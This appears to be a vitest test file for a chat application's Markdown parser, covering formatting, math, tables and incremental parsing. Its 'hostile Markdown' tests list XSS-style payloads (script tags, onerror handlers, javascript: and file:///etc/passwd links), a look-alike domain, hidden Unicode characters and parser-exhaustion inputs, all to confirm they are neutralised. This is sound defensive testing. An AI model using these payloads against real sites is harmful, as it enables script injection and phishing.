import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { MarkdownBlock } from '#renderer/features/chat/markdown/markdownTree.ts'
import { parseMarkdown } from '#renderer/features/chat/markdown/parseMarkdown.ts'
import { addressTarget, safeAddress } from '#renderer/ui/text/safeAddress.ts'
import { shownText } from '#renderer/ui/text/shownText.ts'

const blocks = (text: string): MarkdownBlock[] => parseMarkdown(text).parts.flatMap((part) => part.block ?? [])
function depthOf(value: unknown): number {
  if (typeof value !== 'object' || value === null) return 0
  return 1 + Object.values(value).reduce((most: number, inner) => Math.max(most, depthOf(inner)), 0)
}
const text = (written: string) => ({ kind: 'text', text: written })

describe('[R32] Markdown', () => {
  test('becomes a tree of what the page can show', () => {
    expect(
      blocks(
        '# Hi *there*\n\n1. one\n2. [x] two `x`\n\n> quoted\n\n```ts\nlet a = 1\n```\n\n|a|b|\n|-|:-:|\n|1|~~2~~|\n\n---',
      ),
    ).toMatchObject([
      { kind: 'heading', depth: 1, inlines: [text('Hi '), { kind: 'emphasis', inlines: [text('there')] }] },
      {
        kind: 'list',
        first: 1,
        items: [
          { checked: null },
          { checked: true, blocks: [{ inlines: [text('two '), { kind: 'code', text: 'x' }] }] },
        ],
      },
      { kind: 'quote', blocks: [{ kind: 'paragraph', inlines: [text('quoted')] }] },
      { kind: 'code', language: 'ts', text: 'let a = 1' },
      {
        kind: 'table',
        align: [null, 'center'],
        head: [[text('a')], [text('b')]],
        rows: [[[text('1')], [{ kind: 'deleted' }]]],
      },
      { kind: 'rule' },
    ])
  })

  test.each([
    ['costs $5 and $10', [text('costs $5 and $10')]],
    ['so $x^2$ is', [text('so '), { kind: 'math', text: 'x^2', display: false }, text(' is')]],
    ['so \\(a_1\\)', [text('so '), { kind: 'math', text: 'a_1', display: false }]],
    ['it is $$y$$', [text('it is '), { kind: 'math', text: 'y', display: true }]],
  ])('%s: a formula is recognised, an amount of money is not', (written, inlines) => {
    expect(blocks(written)).toEqual([{ kind: 'paragraph', inlines }])
  })

  test('a formula of several lines is a block of its own', () => {
    expect(blocks('$$\na\n+ b\n$$\nafter')).toMatchObject([{ kind: 'math', text: 'a\n+ b' }, { kind: 'paragraph' }])
    expect(blocks('\\[\na\n\\]')).toEqual([{ kind: 'math', text: 'a' }])
  })

  test('character references are decoded, except in code', () => {
    expect(blocks('a &amp; &#x41;&nope; `&amp;`')).toEqual([
      { kind: 'paragraph', inlines: [text('a & A&nope; '), { kind: 'code', text: '&amp;' }] },
    ])
  })
})

describe('[R32] hostile Markdown', () => {
  test.each([
    '<img src=x onerror="window.hacked = 1">',
    '<script>window.hacked = 1</script>',
    'a <b onclick=x>b</b> <iframe srcdoc="<script>1</script>"></iframe>',
    '<svg><style>*{display:none}</style></svg>',
    '<!-- hidden --> <?php 1 ?> <![CDATA[x]]>',
  ])('%s stays plain text', (written) => {
    expect(JSON.stringify(blocks(written)).includes('"html"')).toBe(false)
    const shown = blocks(written).flatMap((block) => (block.kind === 'paragraph' ? block.inlines : []))
    expect(shown.map((inline) => (inline.kind === 'text' ? inline.text : '?')).join('')).toBe(written)
  })

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>1</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](app://switchboard/)',
    '[x](#/servers)',
    '[x](//example.invalid)',
    '[x](switchboard:install?x)',
    '<javascript:alert(1)>',
    '[x][y]\n\n[y]: javascript:alert(1)',
  ])('%s is not a link', (written) => {
    expect(JSON.stringify(blocks(written))).not.toContain('"kind":"link"')
  })

  test('a picture is never fetched: there is no picture in the tree, only its address to ask about', () => {
    expect(blocks('![secret](https://example.invalid/?q=secret) ![x](data:image/png;base64,AA)')).toEqual([
      {
        kind: 'paragraph',
        inlines: [
          { kind: 'image', address: 'https://example.invalid/?q=secret', text: 'secret' },
          text(' '),
          { kind: 'image', address: null, text: 'x' },
        ],
      },
    ])
  })

  test('a look-alike host is shown encoded, as it is requested', () => {
    expect(addressTarget(safeAddress('https://аpple.com/login') ?? '')).toBe('xn--pple-43d.com')
    expect(addressTarget(safeAddress('https://apple.com@example.invalid/') ?? '')).toBe('example.invalid')
  })

  test.each([
    ['a‮fdp.exe', 'a⟨202E⟩fdp.exe'],
    ['a\u200bb', 'a⟨200B⟩b'],
    ['hi\u{e0041}\u{e0042}', 'hi⟨E0041⟩⟨E0042⟩'],
    ['👨‍👩‍👧 می‌خواهم', '👨‍👩‍👧 می‌خواهم'],
    [
      '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
      '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
    ],
    ['x‍', 'x⟨200D⟩'],
  ])('%j is read as %s: hidden characters are shown, joiners are kept', (written, shown) => {
    expect(shownText(written)).toBe(shown)
  })

  test.each([
    ['quotes in quotes', '>'.repeat(10_000)],
    ['lists in lists', Array.from({ length: 200 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
    ['a long row of underscores', `${'_'.repeat(50_000)}a`],
    ['a long row of stars', `a${'*'.repeat(50_000)}a`],
    ['brackets', '['.repeat(50_000)],
    ['unfinished links', '[a](<b'.repeat(10_000)],
    ['dollars', '$a '.repeat(20_000)],
    ['fences', '```\n'.repeat(20_000)],
    ['a megabyte', 'word '.repeat(200_000)],
  ])(
    '%s neither throws nor nests without end, because both would break the page that renders it',
    (_title, written) => {
      expect(depthOf(blocks(written))).toBeLessThan(100)
    },
  )
})

describe('[R32] text beyond the bounds', () => {
  const paragraph = (written: string) => [{ kind: 'paragraph', inlines: [text(written)] }]
  test.each([
    ['a paragraph of nothing but marks', '**a'.repeat(2_000)],
    ['a line of a hundred thousand markers', '> '.repeat(100_000)],
  ])('%s is shown complete, as plain text', (_title, written) => {
    const shown = JSON.stringify(blocks(written))
    expect(shown).toContain(written.slice(-1_000))
    expect(shown).not.toContain('"strong"')
  })

  test('a table whose rows leave out more cells than a page can draw is shown as lines of text', () => {
    const written = `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${'|\n'.repeat(300)}`
    expect(blocks(written)).toEqual(paragraph(written))
  })

  test('a limited number of lines is parsed, the others follow as text', () => {
    const lines = (count: number) => '# a\n\n'.repeat(count)
    const read = blocks(`${lines(5_000)}**b**\n`)
    expect(read).toHaveLength(5_001)
    expect(read.at(-1)).toEqual({ kind: 'paragraph', inlines: [text('**b**\n')] })
  })

  test('a paragraph between others beyond the bounds is parsed as usual', () => {
    expect(blocks(`${'**a'.repeat(2_000)}\n\n**b**`).at(-1)).toMatchObject({ inlines: [{ kind: 'strong' }] })
  })
})

test.each([
  ['see https://a.example/b_(c)?d=1, or', 'https://a.example/b_(c)?d=1'],
  ['(see https://a.example/b).', 'https://a.example/b'],
  ['at www.a.example/b_c_d!', 'http://www.a.example/b_c_d'],
  ['**https://a.example/**', 'https://a.example/'],
  ['<someone@a.example>', 'mailto:someone@a.example'],
])('[R32] %s leads to %s', (written, address) => {
  expect(JSON.stringify(blocks(written))).toContain(`"address":"${address}"`)
})

test.each(['someone@a.example', 'https://', 'http://?', 'www.'])('%s alone is text', (written) => {
  expect(blocks(written)).toEqual([{ kind: 'paragraph', inlines: [text(written)] }])
})

test('[R32] text parsed piece by piece gives the same result as text parsed at once', () => {
  const pieces = fc.constantFrom(
    'word ',
    '\n',
    '\n\n',
    '- item\n',
    '- many\n'.repeat(31),
    '1. many\n'.repeat(40),
    '- loose\n\n'.repeat(35),
    '  more\n',
    '1. one\n',
    '# head\n',
    '```\n',
    '    code\n',
    '|a|b|\n',
    '|-|-|\n',
    '|a|b|\n|-|:-:|\n',
    '|1|**2**|\n'.repeat(33),
    '|1|2|\n'.repeat(70),
    '|only one\n',
    '> q\n',
    '---\n',
    '**',
    '_',
    '`',
    '$$',
    '<div>\n',
    '[a](b)',
    '\t',
    '\r\n',
    '===\n',
  )
  fc.assert(
    fc.property(fc.array(fc.array(pieces, { minLength: 1, maxLength: 6 }), { maxLength: 12 }), (growth) => {
      let whole = ''
      let parsed = parseMarkdown('')
      for (const added of growth) {
        whole += added.join('')
        parsed = parseMarkdown(whole, parsed)
      }
      const shown = (parts: typeof parsed.parts) => parts.flatMap((part) => part.block ?? [])
      expect(shown(parsed.parts)).toEqual(shown(parseMarkdown(whole).parts))
    }),
    { numRuns: 1000 },
  )
})

test('a list of thousands that grows is parsed and rendered only at its end', () => {
  const items = (count: number) => Array.from({ length: count }, (_, index) => `${index + 1}. item\n`).join('')
  const first = parseMarkdown(items(1000))
  const next = parseMarkdown(items(1001), first)
  const lists = next.parts.flatMap(({ block }) => (block?.kind === 'list' ? [block] : []))
  expect(lists.reduce((sum, list) => sum + list.items.length, 0)).toBe(1001)
  expect(lists.every((list, index) => list.first === 1 + index * 30 && list.continues === index > 0)).toBe(true)
  const kept = next.parts.filter((part, index) => part === first.parts[index]).length
  expect(next.parts.length - kept).toBeLessThanOrEqual(2)
})

test('[R32] a table of thousands that grows is parsed and rendered only at its end', () => {
  const rows = (count: number) => Array.from({ length: count }, (_, index) => `| ${index} | text |\n`).join('')
  const first = parseMarkdown(`| a | b |\n|---|---|\n${rows(1000)}`)
  const next = parseMarkdown(`| a | b |\n|---|---|\n${rows(1001)}`, first)
  const tables = next.parts.flatMap(({ block }) => (block?.kind === 'table' ? [block] : []))
  expect(tables.reduce((sum, table) => sum + table.rows.length, 0)).toBe(1001)
  expect(tables.every((table, index) => table.continues === index > 0)).toBe(true)
  const kept = next.parts.filter((part, index) => part === first.parts[index]).length
  expect(next.parts.length - kept).toBeLessThanOrEqual(2)
})

test('finished blocks keep their identity while the text grows, so that they are not rendered again', () => {
  const first = parseMarkdown('# a\n\none\n\ntwo\n\nthree')
  const next = parseMarkdown('# a\n\none\n\ntwo\n\nthree and\n\nfour', first)
  expect(next.parts[0]).toBe(first.parts[0])
  expect(next.parts[2]).toBe(first.parts[2])
})
